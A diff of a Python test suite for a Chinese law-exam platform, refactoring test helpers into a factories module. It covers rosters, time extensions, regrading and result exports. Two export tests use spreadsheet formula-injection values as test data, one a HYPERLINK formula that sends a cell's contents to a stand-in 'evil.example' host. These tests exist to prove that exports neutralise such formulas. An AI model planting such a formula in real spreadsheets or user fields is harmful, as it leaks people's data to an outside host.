@@ -3,10 +3,10 @@ rosters, time extensions, the live board, regrading after a key correction, resu
 
 import csv
 import io
-import random
 import zipfile
 from datetime import datetime, timedelta
 from decimal import Decimal
+from functools import partial
 
 import pytest
 from openpyxl import load_workbook
@@ -17,122 +17,38 @@ from core.audit import SYSTEM, Actor, AuditEntry
 from core.extensions import db
 from core.roles import Role
 from question_bank import bank
-from question_bank.drafts import LawRefDraft, QuestionDraft
-from question_bank.models import Question
 from training import accounts
 from training.exams import attempts, models, regrade, results, setup, sittings
 from training.exams.forms import format_grade_bands, parse_grade_bands
 from training.exams.models import Attempt, AttemptStatus, BatchMember, PaperItem
-from training.exams.setup import BlueprintData, ExamData, SectionData, SetupError
+from training.exams.setup import BlueprintData, SectionData, SetupError
+
+from ..factories import (
+    GRACE,
+    add_batch,
+    add_questions,
+    make_blueprint,
+    make_exam,
+    take,
+)
 
 NOW = datetime(2026, 3, 2, 1, 0)  # 09:00 China time
-GRACE = timedelta(seconds=30)
-CHOICES = {
-    "true_false": ["正确", "错误"],
-    "single": ["甲", "乙", "丙", "丁"],
-    "multiple": ["甲", "乙", "丙", "丁"],
+#: the pre-appointment exams these tests set: 100-point papers of 10 判断
+PRE_APPOINTMENT = {
+    "title": "任前学法考试（测试）",
+    "kind": "pre_appointment",
+    "time_limit_minutes": 30,
+    "pass_mark": Decimal(60),
+    "grade_bands": [[60, "合格"], [80, "良好"], [90, "优秀"]],
 }
-ANSWERS = {"true_false": [0], "single": [1], "multiple": [0, 2]}
+published_exam = partial(make_exam, **PRE_APPOINTMENT)
+draft_exam = partial(make_exam, publish=False, **PRE_APPOINTMENT)
 
 
 @pytest.fixture(autouse=True)
-def frozen_clock(monkeypatch):
-    """The server clock, movable by tests: clock.now() returns `frozen_clock.now`."""
-
-    class Clock:
-        now = NOW
-
-    monkeypatch.setattr(clock, "now", lambda: Clock.now)
-    return Clock
-
-
-@pytest.fixture
-def law(app):
-    law = bank.add_law(SYSTEM, "宪法", "2018年修正")
-    bank.add_law(SYSTEM, "行政处罚法", "2021年修订")
-    db.session.commit()
-    return law
-
-
-_stem = iter(range(1, 100000))
-
-
-def add_questions(kind: str, count: int, law_name: str = "宪法") -> list[Question]:
-    questions = []
-    for _ in range(count):
-        number = next(_stem)
-        draft = QuestionDraft(
-            kind,
-            f"测试题{number}：依照{law_name}，下列说法正确的是"
-            + ("____" if kind == "fill_blank" else ""),
-            CHOICES.get(kind, []),
-            ANSWERS.get(kind, []),
-            [["十五日"]] if kind == "fill_blank" else [],
-            law_refs=[LawRefDraft(law_name, None, number % 50 + 1)],
-        )
-        questions.append(bank.add_question(SYSTEM, draft))
-    db.session.commit()
-    return questions
-
-
-def make_blueprint(*sections: SectionData, random_per_candidate=False, **options):
-    blueprint = setup.save_blueprint(
-        SYSTEM,
-        BlueprintData(
-            "测试组卷", list(sections), random_per_candidate=random_per_candidate, **options
-        ),
-    )
-    db.session.commit()
-    return blueprint
-
-
-def make_exam(blueprint, **fields):
-    data = ExamData(
-        title=fields.pop("title", "任前学法考试（测试）"),
-        kind=fields.pop("kind", "pre_appointment"),
-        blueprint_id=blueprint.id,
-        time_limit_minutes=fields.pop("time_limit_minutes", 30),
-        pass_mark=fields.pop("pass_mark", Decimal(60)),
-        opens_at=fields.pop("opens_at", NOW - timedelta(hours=1)),
-        closes_at=fields.pop("closes_at", NOW + timedelta(days=1)),
-        grade_bands=fields.pop("grade_bands", [[60, "合格"], [80, "良好"], [90, "优秀"]]),
-        **fields,
-    )
-    exam = setup.save_exam(SYSTEM, data)
-    db.session.commit()
-    return exam
-
-
-def published_exam(blueprint, **fields):
-    exam = make_exam(blueprint, **fields)
-    setup.publish(SYSTEM, exam, random.Random(1))
-    db.session.commit()
-    return exam
-
-
-def make_batch(exam, users=(), name="第一批"):
-    batch = sittings.create_batch(
-        SYSTEM, exam, name, NOW - timedelta(minutes=30), NOW + timedelta(hours=3)
-    )
-    if users:
-        sittings.add_members(SYSTEM, batch, list(users))
-    db.session.commit()
-    return batch
-
-
-def take(user, exam, answers=None, submit=True, seed=0):
-    """Start an attempt and answer every item with `answers[type]` (the key by default)."""
-    attempt = attempts.start_attempt(user, exam, clock.now(), random.Random(seed))
-    db.session.flush()
-    for seq, item in enumerate(attempt.items, start=1):
-        kind = item.question_version.type
-        answer = (answers or ANSWERS).get(kind, ["十五日"])
-        result = attempts.save_answer(user.id, attempt.id, item.id, answer, seq, clock.now(), GRACE)
-        assert result.saved
-    if submit:
-        attempts.submit(attempt, clock.now(), "candidate")
-    db.session.commit()
-    return attempt
+def nine_oclock(frozen_clock):
+    frozen_clock.now = NOW
+    return frozen_clock
 
 
 def audit_entries(action: str) -> list[AuditEntry]:
@@ -215,7 +131,7 @@ def test_a_blueprint_used_by_a_published_exam_cannot_change(law):
 
 def test_publish_and_close_are_guarded(law):
     add_questions("true_false", 10)
-    exam = make_exam(make_blueprint(ten_true_false()))
+    exam = draft_exam(make_blueprint(ten_true_false()))
     with pytest.raises(SetupError, match="考试当前为「草稿」，不能改为「已结束」"):
         setup.close(SYSTEM, exam)
     setup.publish(SYSTEM, exam)
@@ -236,7 +152,7 @@ def test_publish_and_close_are_guarded(law):
 def test_publish_refuses_a_pass_mark_above_a_changed_blueprint(law):
     add_questions("true_false", 10)
     blueprint = make_blueprint(ten_true_false())
-    exam = make_exam(blueprint, pass_mark=Decimal(90), grade_bands=[])
+    exam = draft_exam(blueprint, pass_mark=Decimal(90), grade_bands=[])
     setup.save_blueprint(
         SYSTEM, BlueprintData("小卷", [SectionData("true_false", 5, Decimal(10))]), blueprint
     )
@@ -247,7 +163,7 @@ def test_publish_refuses_a_pass_mark_above_a_changed_blueprint(law):
 
 def test_the_buttons_publish_close_and_show_a_wrong_move(client, login_as, law):
     add_questions("true_false", 10)
-    exam = make_exam(make_blueprint(ten_true_false()))
+    exam = draft_exam(make_blueprint(ten_true_false()))
     login_as(Role.TRAINER)
     wrong = client.post(f"/manage/exams/{exam.id}/close", follow_redirects=True)
     assert "考试当前为「草稿」，不能改为「已结束」" in wrong.text
@@ -373,7 +289,7 @@ def test_a_fixed_paper_gives_everyone_the_same_questions(law, make_user):
     )
     exam = published_exam(blueprint)
     people = [make_user() for _ in range(4)]
-    make_batch(exam, people)
+    add_batch(exam, people)
     papers = [take(user, exam, submit=False, seed=seed) for seed, user in enumerate(people)]
     sets = [{item.question_version_id for item in attempt.items} for attempt in papers]
     assert all(paper == sets[0] for paper in sets) and len(sets[0]) == 5
@@ -388,7 +304,7 @@ def test_a_random_paper_is_drawn_per_candidate(law, make_user):
     )
     assert len(exam.pools[0]) == 30
     people = [make_user() for _ in range(4)]
-    make_batch(exam, people)
+    add_batch(exam, people)
     papers = [take(user, exam, submit=False, seed=seed) for seed, user in enumerate(people)]
     sets = {frozenset(item.question_version_id for item in a.items) for a in papers}
     assert len(sets) > 1
@@ -401,7 +317,7 @@ def test_a_random_paper_is_drawn_per_candidate(law, make_user):
 def test_a_batch_must_lie_within_the_exam_window(law):
     add_questions("true_false", 10)
     blueprint = make_blueprint(ten_true_false())
-    draft = make_exam(blueprint)
+    draft = draft_exam(blueprint)
     with pytest.raises(SetupError, match="只有已发布的考试可以新建场次"):
         sittings.create_batch(SYSTEM, draft, "一", NOW, NOW + timedelta(hours=1))
     setup.publish(SYSTEM, draft)
@@ -458,7 +374,7 @@ def test_a_roster_by_unit_takes_the_subtree_within_the_admins_scope(law, tree, m
     bureau, section, town, people, admin = tree
     add_questions("true_false", 10)
     exam = published_exam(make_blueprint(ten_true_false()))
-    batch = make_batch(exam)
+    batch = add_batch(exam)
     scope = accounts.manageable_unit_ids(admin)
     make_user(unit=section, name="已停用", is_active=False)
     make_user(Role.AUDITOR, unit=section, name="审计员")
@@ -487,7 +403,7 @@ def test_the_roster_pages_keep_a_unit_admin_to_their_subtree(client, auth, law, 
     bureau, section, town, people, admin = tree
     add_questions("true_false", 10)
     exam = published_exam(make_blueprint(ten_true_false()))
-    batch = make_batch(exam, people[town] + people[section])
+    batch = add_batch(exam, people[town] + people[section])
     auth.login(admin)
     page = client.get(f"/manage/batches/{batch.id}").text
     assert "法治督察科1" in page and "城关镇1" not in page
@@ -527,7 +443,7 @@ def test_only_someone_who_has_not_started_can_be_taken_off(law, make_user, clien
     add_questions("true_false", 10)
     exam = published_exam(make_blueprint(ten_true_false()))
     waiting, writing = make_user(name="未开始的人"), make_user(name="已开始的人")
-    batch = make_batch(exam, [waiting, writing])
+    batch = add_batch(exam, [waiting, writing])
     take(writing, exam, submit=False)
     members = {m.user_id: m for m in batch.members}
     with pytest.raises(SetupError, match="「已开始的人」已在本场次开始作答，不能移出名单"):
@@ -551,7 +467,7 @@ def test_an_extension_is_audited_and_applies_at_once(law, make_user, client, log
     add_questions("true_false", 10)
     exam = published_exam(make_blueprint(ten_true_false()))
     writing, waiting = make_user(name="张三"), make_user(name="李四")
-    batch = make_batch(exam, [writing, waiting])
+    batch = add_batch(exam, [writing, waiting])
     attempt = take(writing, exam, submit=False)
     deadline = attempt.deadline_at
     members = {m.user_id: m for m in batch.members}
@@ -592,7 +508,7 @@ def test_the_board_counts_and_submits_what_ran_out(law, make_user, client, login
     idle, writing, passed, failed, late = (
         make_user(name=name) for name in ("未动", "在写", "考过", "没过", "超时")
     )
-    batch = make_batch(exam, [idle, writing, passed, failed, late])
+    batch = add_batch(exam, [idle, writing, passed, failed, late])
     take(passed, exam)
     take(failed, exam, answers={"true_false": [1]})
     frozen_clock.now = NOW - timedelta(minutes=29)
@@ -627,7 +543,7 @@ def regrade_setup(law, make_user):
     questions = add_questions("true_false", 10)
     exam = published_exam(make_blueprint(ten_true_false()))
     people = [make_user(name=name) for name in ("甲", "乙", "丙", "丁")]
-    make_batch(exam, people)
+    add_batch(exam, people)
     taken = [take(person, exam) for person in people[:2]]
     taken.append(take(people[2], exam, answers={"true_false": [1]}))
     writing = take(people[3], exam, submit=False)
@@ -718,7 +634,7 @@ def test_a_regrade_that_changes_pass_or_fail_says_so(law, make_user):
         )
     )
     person = make_user()
-    make_batch(exam, [person])
+    add_batch(exam, [person])
     attempt = take(person, exam, answers={"true_false": [0], "single": [2]})
     assert (attempt.score, attempt.passed) == (Decimal(54), False)
     draft = bank.current_draft(key_question)
@@ -748,7 +664,7 @@ def test_a_fill_in_key_gains_an_accepted_answer(law, make_user):
     (question,) = add_questions("fill_blank", 1)
     exam = published_exam(make_blueprint(SectionData("fill_blank", 1, Decimal(100))))
     person = make_user()
-    make_batch(exam, [person])
+    add_batch(exam, [person])
     attempt = take(person, exam, answers={"fill_blank": ["15日"]})
     assert attempt.score == Decimal(0)
     draft = bank.current_draft(question)
@@ -802,7 +718,7 @@ def test_results_count_the_attempt_the_rule_names(law, tree, counting, number, s
     bureau, _section, town, people, admin = tree
     add_questions("true_false", 10)
     exam = published_exam(make_blueprint(ten_true_false()), counting=counting, attempts_allowed=3)
-    batch = make_batch(exam, people[bureau] + people[town])
+    batch = add_batch(exam, people[bureau] + people[town])
     seed_attempts(exam, batch, people[bureau][0], [70, 90, 50])
     seed_attempts(exam, batch, people[town][0], [65])
 
@@ -827,7 +743,7 @@ def test_the_export_is_audited_and_scoped(law, tree, client, auth):
     bureau, _section, town, people, admin = tree
     add_questions("true_false", 10)
     exam = published_exam(make_blueprint(ten_true_false()))
-    batch = make_batch(exam, people[bureau] + people[town])
+    batch = add_batch(exam, people[bureau] + people[town])
     seed_attempts(exam, batch, people[bureau][0], [85])
     seed_attempts(exam, batch, people[town][0], [40])
     auth.login(admin)
@@ -862,7 +778,7 @@ def test_an_export_cell_cannot_become_a_formula(law, make_user, root_unit):
     add_questions("true_false", 10)
     exam = published_exam(make_blueprint(ten_true_false()))
     person = make_user(name="=HYPERLINK(1)")
-    batch = make_batch(exam, [person])
+    batch = add_batch(exam, [person])
     seed_attempts(exam, batch, person, [70])
     data = results.export_results(SYSTEM, exam, "csv").decode("utf-8")
     assert "'=HYPERLINK(1)" in data
@@ -873,7 +789,7 @@ def test_every_cell_of_the_xlsx_export_is_text_never_a_formula(law, make_user, r
     title = '=HYPERLINK("http://evil.example/?"&B3,"查看成绩")'
     exam = published_exam(make_blueprint(ten_true_false()), title=title)
     person = make_user(name="=1+1", login="formula")
-    seed_attempts(exam, make_batch(exam, [person]), person, [70])
+    seed_attempts(exam, add_batch(exam, [person]), person, [70])
     data = results.export_results(SYSTEM, exam, "xlsx")
     with zipfile.ZipFile(io.BytesIO(data)) as archive:
         assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
@@ -890,8 +806,8 @@ def test_the_pages_render_for_their_roles(law, tree, client, auth, make_user):
     add_questions("true_false", 10)
     blueprint = make_blueprint(ten_true_false())
     exam = published_exam(blueprint)
-    make_exam(blueprint, title="草稿考试")
-    batch = make_batch(exam, people[bureau])
+    draft_exam(blueprint, title="草稿考试")
+    batch = add_batch(exam, people[bureau])
     trainer = make_user(Role.TRAINER)
     auth.login(trainer)
     assert "组卷与考试" in client.get("/").text
@@ -915,7 +831,7 @@ def test_members_stay_unique_per_batch(law, make_user):
     add_questions("true_false", 10)
     exam = published_exam(make_blueprint(ten_true_false()))
     person = make_user()
-    batch = make_batch(exam, [person])
+    batch = add_batch(exam, [person])
     assert sittings.add_members(SYSTEM, batch, [person]) == 0
     db.session.commit()
     count = db.session.scalar(
